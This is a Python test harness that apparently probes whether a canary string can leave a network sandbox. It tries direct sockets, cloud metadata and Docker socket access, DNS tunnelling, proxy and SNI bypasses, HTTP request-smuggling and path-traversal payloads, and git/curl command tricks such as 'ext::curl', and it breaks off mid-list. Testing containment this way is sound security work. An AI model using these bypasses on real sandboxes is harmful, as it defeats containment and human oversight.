# Ways to get a canary out of the sandbox. Each is a case of a group, with a name and a canary of its own.
# Before this text, the test puts PORT, NAME and FILE, sockets of the host that record what arrives, and
# REDIRECTS, the number of redirects that https://test.example/pub/r/ has.
# For each case it prints the group, the name and what the program saw.
import concurrent.futures, json, os, re, socket, ssl, struct, subprocess, tempfile, urllib.request

PROXY = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')
cases = []


def ask(text):
    s = socket.create_connection((PROXY[0], int(PROXY[1])), 20)
    s.sendall(text.encode('latin-1'))
    return s


def tunnel(to):
    s = ask(f'CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n')
    answer = b''
    while b'\r\n\r\n' not in answer:
        part = s.recv(1)
        if not part:
            raise OSError('the tunnel is refused')
        answer += part
    return s


def case(group, name, how):
    cases.append((group, name, how))


def each(group, names, how, by=''):
    for name in names:
        case(group, f'{name}{by}', lambda c, name=name: how(name, c))


# --- connections without the proxy -----------------------------------------------------------------

V4 = ['127.0.0.1', '127.1.2.3', '0.0.0.0', '10.0.0.1', '100.64.0.1', '169.254.169.254', '172.16.0.1',
      '192.0.2.1', '192.168.0.1', '255.255.255.255', '224.0.0.1', '8.8.8.8']
V6 = ['::1', '::', '::ffff:127.0.0.1', '64:ff9b::7f00:1', '2001:db8::1', 'fd00::1', 'fe80::1', 'ff02::1',
      'ff02::fb']


def family(address):
    return socket.AF_INET6 if ':' in address else socket.AF_INET


def opened(address, kind):
    s = socket.socket(family(address), kind)
    s.settimeout(3)
    return s


def tcp(address, c):
    s = opened(address, socket.SOCK_STREAM)
    s.connect((address, PORT))
    s.sendall(c.encode())
    return 'connected'


def fast_open(address, c):
    opened(address, socket.SOCK_STREAM).sendto(c.encode(), socket.MSG_FASTOPEN, (address, PORT))
    return 'sent'


def not_waiting(address, c):
    s = socket.socket(family(address), socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((address, PORT))
    import select
    select.select([], [s], [], 2)
    s.send(c.encode())
    return 'sent'


def bound(address, c):
    s = opened(address, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0\0')
    s.connect((address, PORT))
    s.sendall(c.encode())
    return 'connected'


each('TCP', V4 + V6, tcp)
each('TCP', ['127.0.0.1', '8.8.8.8', '::1'], fast_open, ' with TCP Fast Open')
each('TCP', ['127.0.0.1', '192.0.2.1'], not_waiting, ' without waiting')
each('TCP', ['127.0.0.1', '192.0.2.1'], bound, ' by an interface')


def udp(address, c):
    s = opened(address, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(c.encode(), (address, PORT))
    return 'sent'


def udp_connected(address, c):
    s = opened(address, socket.SOCK_DGRAM)
    s.connect((address, PORT))
    s.send(c.encode())
    return 'sent'


def multicast(address, c):
    s = opened(address, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 8)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton('127.0.0.1'))
    s.sendto(c.encode(), (address, PORT))
    return 'sent'


each('UDP', V4 + V6, udp)
each('UDP', ['127.0.0.1', '8.8.8.8', '::1'], udp_connected, ' after connecting')
each('UDP', ['239.255.255.250', '224.0.0.251'], multicast, ' with an interface')


def raw(which, c):
    domain, kind, protocol = which
    s = socket.socket(domain, kind, protocol)
    s.sendto(b'\x08\0\0\0\0\0\0\0' + c.encode(), ('::1' if domain == socket.AF_INET6 else '127.0.0.1', 0))
    return 'sent'


RAW = [(socket.AF_INET, kind, protocol) for kind in (socket.SOCK_RAW,) for protocol in (1, 2, 6, 17, 47, 132, 255)]
RAW += [(socket.AF_INET, socket.SOCK_DGRAM, 1), (socket.AF_INET6, socket.SOCK_DGRAM, 58),
        (socket.AF_INET6, socket.SOCK_RAW, 58), (socket.AF_INET6, socket.SOCK_RAW, 255)]
for which in RAW:
    case('raw sockets and ICMP', f'{which[0].name} {which[1].name} {which[2]}', lambda c, which=which: raw(which, c))


def other_protocol(which, c):
    kind, protocol = which
    s = socket.socket(socket.AF_INET, kind, protocol)
    s.settimeout(3)
    s.connect(('127.0.0.1', PORT))
    s.send(c.encode())
    return 'connected'


for which in [(socket.SOCK_STREAM, 262), (socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132), (6, 33), (socket.SOCK_DGRAM, 136)]:
    case('raw sockets and ICMP', f'kind {int(which[0])} of protocol {which[1]}', lambda c, which=which: other_protocol(which, c))


def other_family(number, c):
    for kind in (socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            s = socket.socket(number, kind, 0)
        except OSError as error:
            last = error
            continue
        # What such an address looks like does not matter: none is reached.
        libc = __import__('ctypes').CDLL(None, use_errno=True)
        address = struct.pack('=HHIIQ', number, 0, PORT, 2, 0)
        if libc.connect(s.fileno(), address, len(address)) == 0 and libc.send(s.fileno(), c.encode(), len(c), 0) > 0:
            return 'sent'
        last = OSError('not connected')
    raise last


# Packets, vsock, Bluetooth, CAN, TIPC, AX.25, IPX, AppleTalk, X.25, RDS, IrDA, PPPoX, LLC, InfiniBand, MPLS,
# ISDN, Phonet, IEEE 802.15.4, CAIF, AF_ALG, NFC, KCM, Qualcomm's router, SMC, XDP, MCTP, keys, netlink.
each('other families', [17, 40, 31, 29, 30, 3, 4, 5, 9, 21, 23, 24, 26, 27, 28, 34, 35, 36, 37, 38, 39, 41, 42, 43, 44, 45, 15, 16],
     other_family)


def route(what, c):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.settimeout(3)
    kind, body = what
    s.send(struct.pack('=IHHII', 16 + len(body), kind, 0x505, 1, 0) + body)
    kind, error = struct.unpack('=4xH10xi', s.recv(4096)[:20])
    if kind != 2 or error >= 0:
        # It is the run's own namespace, in which nothing else is: what follows has to fail.
        tcp('192.0.2.1', c)
        return 'changed'
    raise OSError(-error, 'netlink')


for name, what in [('a route', (24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0))),
                   ('an interface', (16, struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0))),
                   ('an address', (20, struct.pack('=BBBBI', 2, 24, 0, 0, 1)))]:
    case('other families', f'netlink: {name}', lambda c, what=what: route(what, c))


# --- Unix sockets ----------------------------------------------------------------------------------


def unix(address, c, kind=socket.SOCK_STREAM):
    s = socket.socket(socket.AF_UNIX, kind)
    s.settimeout(3)
    s.connect(address)
    s.send(c.encode())
    return 'connected'


for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    case('Unix sockets', f'an abstract name, {kind.name}', lambda c, kind=kind: unix('\0' + NAME, c, kind))
case('Unix sockets', 'a file of the host', lambda c: unix(FILE, c))


def linked(c):
    with tempfile.TemporaryDirectory() as d:
        os.symlink(FILE, d + '/s')
        return unix(d + '/s', c)


case('Unix sockets', 'a link to a file of the host', linked)
case('Unix sockets', 'by a directory of a process', lambda c: unix('/proc/self/root' + FILE, c))
case('Unix sockets', 'by the directory of process 1', lambda c: unix('/proc/1/root' + FILE, c))
each('Unix sockets', ['/var/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock',
                      '/run/dbus/system_bus_socket', '/run/systemd/resolve/io.systemd.Resolve',
                      '/run/systemd/journal/socket', '/dev/log', '/var/run/nscd/socket', '/tmp/.X11-unix/X0',
                      '/run/snapd.socket', '/var/run/avahi-daemon/socket', '/run/user/0/bus'],
     unix)


def is_open(number):
    try:
        os.fstat(number)
        return True
    except OSError:
        return False


# Before the cases have sockets of their own. The list itself has a descriptor, which is closed by now: a
# socket of a case may get its number.
LISTED = [int(number) for number in os.listdir('/proc/self/fd')]
INHERITED = [number for number in LISTED if number > 2 and is_open(number)]


def inherited(c):
    for number in INHERITED:
        try:
            os.write(number, c.encode())
            return 'written'
        except OSError:
            pass
    raise OSError('nothing is inherited')


case('Unix sockets', 'an inherited descriptor', inherited)


# --- names -----------------------------------------------------------------------------------------


def question(c, kind=1, prefix=b''):
    return (b'\x12\x34\1\0\0\1\0\0\0\0\0\0' + prefix + bytes([len(c)]) + c.encode() + b'\7example\0'
            + struct.pack('>HH', kind, 1))


def ask_server(server, c, port=53, kind=1):
    s = opened(server, socket.SOCK_DGRAM)
    s.sendto(question(c, kind), (server, port))
    answer = s.recv(999)
    return f'rcode {answer[3] & 15}, {struct.unpack(">H", answer[6:8])[0]} answers'


each('names', ['127.0.0.1', '127.0.0.53', '127.0.0.11', '10.0.0.2', '169.254.169.253', '8.8.8.8', '1.1.1.1',
               '::1', '2001:4860:4860::8888'], ask_server)
for kind in (2, 5, 10, 12, 15, 16, 28, 33, 43, 64, 65, 252, 255):
    case('names', f'a question of type {kind}', lambda c, kind=kind: ask_server('127.0.0.1', c, kind=kind))
for name, port, address in [('mDNS', 5353, '224.0.0.251'), ('LLMNR', 5355, '224.0.0.252'), ('NetBIOS', 137, '255.255.255.255'),
                            ('DNS by TLS', 853, '1.1.1.1')]:
    case('names', name, lambda c, port=port, address=address: ask_server(address, c, port))


def over_tcp(server, c):
    s = opened(server, socket.SOCK_STREAM)
    s.connect((server, 53))
    s.sendall(struct.pack('>H', len(question(c))) + question(c))
    return 'connected'


each('names', ['127.0.0.1', '8.8.8.8'], over_tcp, ' over TCP')


def looked_up(c):
    socket.getaddrinfo(c + '.example', 80)
    return 'found'


case('names', 'getaddrinfo', looked_up)
case('names', 'gethostbyname', lambda c: socket.gethostbyname(c + '.other.example'))
case('names', 'a long name', lambda c: socket.getaddrinfo('.'.join([c] * 15) + '.example', 80) and 'found')
case('names', 'getent', lambda c: tool(c, 'getent', 'hosts', c + '.example'))


# --- tunnels ---------------------------------------------------------------------------------------


def status(s, sent=b''):
    s.settimeout(5)
    if sent:
        s.sendall(sent)
    answer = s.recv(999)
    return answer.split(b'\r\n')[0].decode('latin-1') if answer else 'closed'


def connect(target, c):
    said = status(ask(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'))
    s = ask(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n{c}\r\n')
    return said + ', ' + status(s, c.encode())


each('tunnels', [f'127.0.0.1:{PORT}', f'localhost:{PORT}', f'LOCALHOST:{PORT}', f'localhost.:{PORT}', f'[::1]:{PORT}',
                 f'[::]:{PORT}', f'[::ffff:127.0.0.1]:{PORT}', f'[::ffff:7f00:1]:{PORT}', f'[fe80::1%25lo]:{PORT}', f'0:{PORT}',
                 f'0.0.0.0:{PORT}', f'127.1:{PORT}', f'2130706433:{PORT}', f'0x7f000001:{PORT}', f'0177.0.0.1:{PORT}',
                 f'127.0.0.1.:{PORT}', f'127.0.0.1.nip.io:{PORT}', f'test.example:{PORT}', 'test.example:80',
                 'test.example:4430', 'test.example.:443', 'test.example', 'test.example:', 'test.example:-443',
                 'test.example:65979', f'test.example:443@127.0.0.1:{PORT}', f'127.0.0.1:{PORT}#test.example:443',
                 f'127.0.0.1:{PORT}?test.example:443', f'127.0.0.1:{PORT}/test.example:443', 'test.example%00.other.example:443',
                 'test.example%2eother.example:443', 'test.example,other.example:443', 'other.example:443',
                 'sub.test.example:443', 'test.example.other.example:443', 'xn--tst-qla.example:443', '*:443', '*.example:443',
                 '169.254.169.254:80', 'metadata.google.internal:80', 'host.docker.internal:443',
                 f'http://127.0.0.1:{PORT}/', 'https://test.example/', '/', '*', ''], connect)


def named_by_canary(name, c):
    return status(ask(f'CONNECT {name.format(c)}:443 HTTP/1.1\r\nHost: {name.format(c)}\r\n\r\n'))


each('tunnels', ['{}.example', '{}.test.example', '{}@test.example', 'test.example.{}'], named_by_canary)
for name, lines in [('another Host', f'Host: 127.0.0.1:{PORT}'), ('X-Forwarded-Host', f'Host: other.example:443\r\nX-Forwarded-Host: test.example'),
                    ('Proxy-Authorization', 'Proxy-Authorization: Basic Y2FuYXJ5'), ('a body', 'Content-Length: 12')]:
    case('tunnels', name, lambda c, lines=lines: status(ask(f'CONNECT other.example:443 HTTP/1.1\r\n{lines}\r\n\r\n{c}')))


# --- requests to the proxy -------------------------------------------------------------------------


def sent(text, c):
    return status(ask(text.format(c=c, own=f'127.0.0.1:{PORT}')))


for name, text in [
    ('an address of this machine', 'GET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('an address of this machine, named as the origin', 'GET http://{own}/{c} HTTP/1.1\r\nHost: test.example\r\n\r\n'),
    ('the origin without TLS', 'GET http://test.example/{c} HTTP/1.1\r\nHost: test.example\r\n\r\n'),
    ('the origin, with a Host of this machine', 'GET http://test.example/ HTTP/1.1\r\nHost: {own}\r\nX: {c}\r\n\r\n'),
    ('the origin by https', 'POST https://test.example/{c} HTTP/1.1\r\nHost: test.example\r\n\r\n{c}'),
    ('a user before the address', 'GET http://test.example@{own}/{c} HTTP/1.1\r\nHost: test.example\r\n\r\n'),
    ('a backslash', 'GET http://{own}\\@test.example/{c} HTTP/1.1\r\nHost: test.example\r\n\r\n'),
    ('ftp', 'GET ftp://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('gopher', 'GET gopher://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('file', 'GET file:///etc/passwd HTTP/1.1\r\nHost: test.example\r\nX: {c}\r\n\r\n'),
    ('an address without a scheme', 'GET //{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('only a Host', 'GET / HTTP/1.1\r\nHost: {own}\r\nX: {c}\r\n\r\n'),
    ('HTTP/1.0', 'GET http://{own}/{c} HTTP/1.0\r\n\r\n'),
    ('HTTP/0.9', 'GET http://{own}/{c}\r\n\r\n'),
    ('HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{c}'),
    ('an upgrade to HTTP/2', 'GET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n\r\n'),
    ('a web socket', 'GET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: YQ==\r\nSec-WebSocket-Version: 13\r\n\r\n'),
    ('SOCKS 4', '\x04\x01\x00\x50\x7f\x00\x00\x01{c}\x00'),
    ('SOCKS 5', '\x05\x01\x00'),
    ('the PROXY protocol', 'PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('only line feeds', 'GET http://{own}/{c} HTTP/1.1\nHost: {own}\n\n'),
    ('a method in small letters', 'connect {own} HTTP/1.1\r\nHost: {own}\r\n\r\n{c}'),
    ('TRACE', 'TRACE http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('all options', 'OPTIONS * HTTP/1.1\r\nHost: {own}\r\nX: {c}\r\n\r\n'),
    ('headers that lead on', 'GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\nX-Forwarded-For: {own}\r\nForwarded: host={own}\r\nX-Original-URL: http://{own}/{c}\r\n\r\n'),
    ('two requests', 'GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\n\r\nGET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
]:
    case('requests to the proxy', name, lambda c, text=text: sent(text, c))


# --- server names ----------------------------------------------------------------------------------

unverified = ssl._create_unverified_context()


def handshake(tunnel_to, name, c):
    s = unverified.wrap_socket(tunnel(tunnel_to), server_hostname=name)
    s.settimeout(5)
    s.sendall(f'GET /pub/{c} HTTP/1.1\r\nHost: {name or tunnel_to}\r\n\r\n'.encode())
    return s.recv(99).split(b'\r\n')[0].decode()


for to in ('test.example:443', 'pass.example:443'):
    for name in ('other.example', 'pass.example' if to[0] == 't' else 'test.example', 'sub.' + to[:-4], to[:-4] + '.other.example',
                 '127.0.0.1', '192.0.2.1', None):
        case('server names', f'{name} in a tunnel to {to}', lambda c, to=to, name=name: handshake(to, name, c))


def bytes_in(to, data, c):
    return status(tunnel(to), data(c))


def first_message(name, change=lambda b: b):
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        unverified.wrap_bio(into, out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return change(out.read())


def with_extension(message, kind, data):
    at = 5 + 4 + 2 + 32
    at += 1 + message[at]
    at += 2 + struct.unpack_from('>H', message, at)[0]
    at += 1 + message[at]
    message += struct.pack('>HH', kind, len(data)) + data
    more = 4 + len(data)
    parts = bytearray(message)
    for place in (3, 7, at):
        struct.pack_into('>H', parts, place, struct.unpack_from('>H', parts, place)[0] + more)
    return bytes(parts)


def server_name(name):
    entry = b'\0' + struct.pack('>H', len(name)) + name
    return struct.pack('>H', len(entry)) + entry


def in_two_records(message, at):
    body = message[5:]
    return b''.join(message[:3] + struct.pack('>H', len(p)) + p for p in (body[:at], body[at:]))


for to in ('test.example:443', 'pass.example:443'):
    own = to[:-4]
    for name, data in [
        ('no TLS', lambda c, own=own: f'GET /pub/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'.encode()),
        ('SSH', lambda c: f'SSH-2.0-{c}\r\n'.encode()),
        ('an alert', lambda c: b'\x15\3\1\0\2\2\x28' + c.encode()),
        ('SSL 2', lambda c: b'\x80\x2e\1\0\2\0\x15\0\0\0\x10' + c.encode()),
        ('random bytes', lambda c: os.urandom(200) + c.encode()),
        ('a second server name', lambda c, own=own: with_extension(first_message(own), 0, server_name(c.encode()))),
        ('a second name in the list', lambda c, own=own: with_extension(first_message(None), 0, server_name(own.encode() + b'\0' + c.encode()))),
        ('a name with a NUL', lambda c, own=own: with_extension(first_message(None), 0, server_name(own.encode() + b'\0.other.example'))),
        ('an empty name', lambda c: with_extension(first_message(None), 0, server_name(b''))),
        ('a name that is too long', lambda c: with_extension(first_message(None), 0, server_name(b'a' * 60 + c.encode() * 20))),
    ]:
        case('server names', f'{name} in a tunnel to {to}', lambda c, to=to, data=data: bytes_in(to, data, c))
for name, data in [('an encrypted server name', lambda c: with_extension(first_message('pass.example'), 0xfe0d, c.encode())),
                   ('an encrypted server name in two records',
                    lambda c: in_two_records(with_extension(first_message('pass.example'), 0xfe0d, c.encode()), 9))]:
    case('server names', f'{name}', lambda c, data=data: bytes_in('pass.example:443', data, c))


# --- headers and bodies, where TLS ends at the proxy ------------------------------------------------


def inside(text, c, last=b''):
    s = unverified.wrap_socket(tunnel('test.example:443'), server_hostname='test.example')
    s.settimeout(5)
    s.sendall(text.format(c=c, own=f'127.0.0.1:{PORT}').encode('latin-1'))
    got = []
    try:
        while part := s.recv(4096):
            got += [line.decode('latin-1') for line in re.findall(rb'HTTP/1\.1 \d+[^\r]*', part)]
    except OSError:
        pass
    return ', '.join(got) or 'closed'


G = 'GET /pub/a HTTP/1.1\r\n'
H = 'Host: test.example\r\n'
for name, text in [
    ('another', G + 'Host: other.example\r\nX: {c}\r\n\r\n'),
    ('this machine', G + 'Host: {own}\r\nX: {c}\r\n\r\n'),
    ('two', G + H + 'Host: other.example\r\nX: {c}\r\n\r\n'),
    ('two, the wrong one first', G + 'Host: other.example\r\n' + H + 'X: {c}\r\n\r\n'),
    ('two that are equal', G + H + H + 'X: {c}\r\n\r\n'),
    ('none', G + 'X: {c}\r\n\r\n'),
    ('none, HTTP/1.0', 'GET /pub/a HTTP/1.0\r\nX: {c}\r\n\r\n'),
    ('an empty one', G + 'Host:\r\nX: {c}\r\n\r\n'),
    ('another port', G + 'Host: test.example:8443\r\nX: {c}\r\n\r\n'),
    ('a user', G + 'Host: {c}@test.example\r\n\r\n'),
    ('a list', G + 'Host: test.example, other.example\r\nX: {c}\r\n\r\n'),
    ('a path', G + 'Host: test.example/{c}\r\n\r\n'),
    ('a canary', G + 'Host: {c}.test.example\r\n\r\n'),
    ('a space before the colon', G + 'Host : other.example\r\n' + H + 'X: {c}\r\n\r\n'),
    ('a folded line', G + 'Host: test.example\r\n .{c}.example\r\n\r\n'),
    ('a tab and a control character', G + 'Host: test.example\t\x01{c}\r\n\r\n'),
    ('another in the line of the request', 'GET https://other.example/pub/{c} HTTP/1.1\r\nHost: other.example\r\n\r\n'),
    ('this machine in the line of the request', 'GET http://{own}/{c} HTTP/1.1\r\nHost: {own}\r\n\r\n'),
    ('one that is removed as of the connection', G + 'Host: other.example\r\nConnection: Host\r\nX: {c}\r\n\r\n'),
]:
    case('the header Host', name, lambda c, text=text: inside(text, c))

P = 'POST /{c} HTTP/1.1\r\nHost: test.example\r\nContent-Length: 0\r\n\r\n'
for name, text in [
    ('Content-Length and chunks', G + H + 'Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + P),
    ('chunks and Content-Length', G + H + 'Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n' + P),
    ('two lengths', G + H + 'Content-Length: 0\r\nContent-Length: 44\r\n\r\n' + P),
    ('a list of lengths', G + H + 'Content-Length: 0, 44\r\n\r\n' + P),
    ('a length with a sign', G + H + 'Content-Length: +0\r\n\r\n' + P),
    ('a negative length', G + H + 'Content-Length: -1\r\n\r\n' + P),
    ('a length in hexadecimal digits', G + H + 'Content-Length: 0x0\r\n\r\n' + P),
    ('a length that is too large', G + H + 'Content-Length: 18446744073709551616\r\n\r\n' + P),
    ('a space before the colon', G + H + 'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n' + P),
    ('xchunked', G + H + 'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n' + P),
    ('identity, then chunks', G + H + 'Transfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n' + P),
    ('chunks, then identity', G + H + 'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n' + P),
    ('chunks twice', G + H + 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + P),
    ('a tab before chunked', G + H + 'Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n' + P),
    ('chunked in capitals', G + H + 'Transfer-Encoding: CHUNKED\r\n\r\n0\r\n\r\n' + P),
    ('a folded line', G + H + 'Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n' + P),
    ('a chunk size that overflows', G + H + 'Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n' + P),
    ('an extension of a chunk', G + H + 'Transfer-Encoding: chunked\r\n\r\n0;{c}\n\r\n' + P),
    ('trailers', G + H + 'Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n0\r\nX: {c}\r\n\r\n'),
    ('a body of a GET', G + H + 'Content-Length: 13\r\n\r\n{c}'),
    ('a second request', G + H + '\r\n' + P),
    ('a second request after HEAD', 'HEAD /pub/a HTTP/1.1\r\n' + H + '\r\n' + P),
    ('a second request to another host', G + H + '\r\nGET /pub/{c} HTTP/1.1\r\nHost: other.example\r\n\r\n'),
    ('a bare carriage return', G + H + 'A: b\rPOST /{c} HTTP/1.1\r\n\r\n'),
    ('a bare line feed', 'GET /pub/a HTTP/1.1\n' + 'Host: test.example\nContent-Length: 1\n\n' + P),
    ('a NUL', G + H + 'A: b\0{c}\r\n\r\n'),
    ('a line feed in the path', 'GET /pub/a\nPOST /{c} HTTP/1.1\r\n' + H + '\r\n'),
    ('a space in the path', 'GET /pub/a HTTP/1.1 /{c} HTTP/1.1\r\n' + H + '\r\n'),
    ('a tunnel in the tunnel', 'CONNECT {own} HTTP/1.1\r\nHost: {own}\r\n\r\n{c}'),
    ('an upgrade', G + H + 'Upgrade: {c}\r\nConnection: Upgrade\r\n\r\n'),
    ('an upgrade to HTTP/2', G + H + 'Upgrade: h2c\r\nHTTP2-Settings: {c}\r\nConnection: Upgrade, HTTP2-Settings\r\n\r\n'),
    ('Expect', 'POST /pub/a HTTP/1.1\r\n' + H + 'Content-Length: 13\r\nExpect: 100-continue\r\n\r\n{c}'),
    ('Proxy-Authorization', G + H + 'Proxy-Authorization: Basic {c}\r\n\r\n'),
    ('too many headers', G + H + 'A: {c}\r\n' * 200 + '\r\n'),
    ('a header that is too long', G + H + 'A: ' + '{c}' * 9000 + '\r\n\r\n'),
]:
    case('smuggling', name, lambda c, text=text: inside(text, c))

for method in ('POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'get', 'Get', 'GETX', 'QUERY'):
    case('methods and paths', method, lambda c, method=method: inside(f'{method} /pub/{c} HTTP/1.1\r\n{H}\r\n', c))
for path in ['/{c}', '/private/{c}', '/pub/../{c}', '/pub/./../{c}', '/pub/%2e%2e/{c}', '/pub/%2E./{c}', '/pub/..%2f{c}',
             '/pub%2f..%2f{c}', '/pub/..%252f{c}', '/pub/%252e%252e/{c}', '/pub/..;/{c}', '/pub/..;a=b/{c}', '/pub/..\\{c}',
             '/pub/..%5c{c}', '/pub/..%255c{c}', '//pub/{c}', '/./pub/{c}', '/pub', '/public/{c}', '/PUB/{c}', '/%70ub/{c}', '/pub#/{c}',
             '/pub/%00{c}', '/pub/%0d%0aX:{c}', '/pub/a%20/..%2f{c}', '?{c}', '*', 'pub/{c}', '/pub/\x7f{c}']:
    case('methods and paths', path, lambda c, path=path: inside(f'GET {path} HTTP/1.1\r\n{H}X: {{c}}\r\n\r\n', c))


# --- redirects -------------------------------------------------------------------------------------

for number in range(REDIRECTS):
    def followed(c, number=number):
        got = urllib.request.urlopen(f'https://test.example/pub/r/{number}', timeout=5)
        return f'{got.status} {got.read()!r}'
    case('redirects', f'number {number}, followed by Python', followed)
    case('redirects', f'number {number}, followed by curl',
         lambda c, number=number: tool(c, 'curl', '-sSLm5', '--fail', f'https://test.example/pub/r/{number}'))


# --- tools -----------------------------------------------------------------------------------------

own = f'http://127.0.0.1:{PORT}'


def tool(c, *command, directory=None, **variables):
    environment = dict(os.environ, GIT_TERMINAL_PROMPT='0', npm_config_cache=tempfile.gettempdir() + '/npm', **variables)
    command = [part.replace('{c}', c).replace('{own}', own).replace('{port}', str(PORT)) for part in command]
    try:
        done = subprocess.run(command, timeout=25, capture_output=True, env=environment, cwd=directory or tempfile.gettempdir(),
                              stdin=subprocess.DEVNULL)
    except FileNotFoundError:
        return 'absent'
    if done.returncode:
        raise OSError(f'{command[0]} exited with {done.returncode}')
    return 'done: ' + done.stdout[:60].decode('latin-1')


DIRECT = {name: '' for name in ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy',
                                'npm_config_proxy', 'npm_config_https_proxy', 'CARGO_HTTP_PROXY']}
DIRECT.update(NO_PROXY='*', no_proxy='*', npm_config_noproxy='*')
OWN = {name: own for name in ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy',
                              'npm_config_proxy', 'npm_config_https_proxy', 'CARGO_HTTP_PROXY']}

for name, command, variables in [
    ('this machine by https', ['git', 'ls-remote', 'https://127.0.0.1:{port}/{c}.git'], {}),
    ('this machine by http', ['git', 'ls-remote', '{own}/{c}.git'], {}),
    ("git's own protocol", ['git', 'ls-remote', 'git://127.0.0.1:{port}/{c}'], {}),
    ('ssh', ['git', 'ls-remote', 'ssh://127.0.0.1:{port}/{c}'], {}),
    ('a proxy of its own', ['git', '-c', 'http.proxy={own}', 'ls-remote', 'https://test.example/pub/{c}.git'], {}),
    ('no proxy', ['git', '-c', 'http.proxy=', 'ls-remote', '{own}/{c}.git'], DIRECT),
    ('SOCKS', ['git', '-c', 'http.proxy=socks5h://127.0.0.1:{port}', 'ls-remote', 'https://test.example/{c}.git'], {}),
    ('another address by configuration', ['git', '-c', 'url.{own}/.insteadOf=https://test.example/', 'ls-remote', 'https://test.example/{c}'], {}),
    ('a command of ext', ['git', '-c', 'protocol.ext.allow=always', 'ls-remote', 'ext::curl -m5 {own}/{c}'], DIRECT),
    ('a command of ssh', ['git', 'ls-remote', 'git@127.0.0.1:{c}'], {'GIT_SSH_COMMAND': f'curl -m5 {own}/x'}),
    ('a command of a proxy', ['git', '-c', 'core.gitProxy=curl', 'ls-remote', 'git://127.0.0.1:{port}/{c}'], {}),
    ('an extra header', ['git', '-c', 'http.extraHeader=X: {c}', 'ls-remote', 'https://other.example/a.git'], {}),
    ('a push', ['bash', '-c', 'cd "$(mktemp -d)" && git init -q . && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m {c} && git push https://test.example/pub/a.git HEAD:main'], {}),
    ('a submodule', ['bash', '-c', 'cd "$(mktemp -d)" && git init -q . && git submodule add {own}/{c}.git a'], DIRECT),
]:
    case('git', name, lambda c, command=command, variables=variables: tool(c, *command, **variables))

for name, command, variables in [
    ('no proxy', ['curl', '-sSm5', '--noproxy', '*', '{own}/{c}'], {}),
    ('no variables', ['curl', '-sSm5', '{own}/{c}'], DIRECT),
    ('a proxy of its own', ['curl', '-sSm5', '-x', '{own}', 'http://a.example/{c}'], {}),
    ('a proxy of its own by variables', ['curl', '-sSm5', 'https://test.example/pub/{c}'], OWN),
    ('a tunnel of its own', ['curl', '-sSm5', '-p', '-x', '{own}', 'https://test.example/pub/{c}'], {}),
    ('a proxy before the proxy', ['curl', '-sSm5', '--preproxy', 'socks5h://127.0.0.1:{port}', 'https://test.example/pub/{c}'], {}),
    ('SOCKS 4', ['curl', '-sSm5', '--socks4', '127.0.0.1:{port}', 'http://a.example/{c}'], {}),
    ('SOCKS 5', ['curl', '-sSm5', '--socks5', '127.0.0.1:{port}', 'http://a.example/{c}'], {}),
    ('another address of the name', ['curl', '-sSm5', '--noproxy', '*', '--resolve', 'test.example:{port}:127.0.0.1', 'http://test.example:{port}/{c}'], {}),
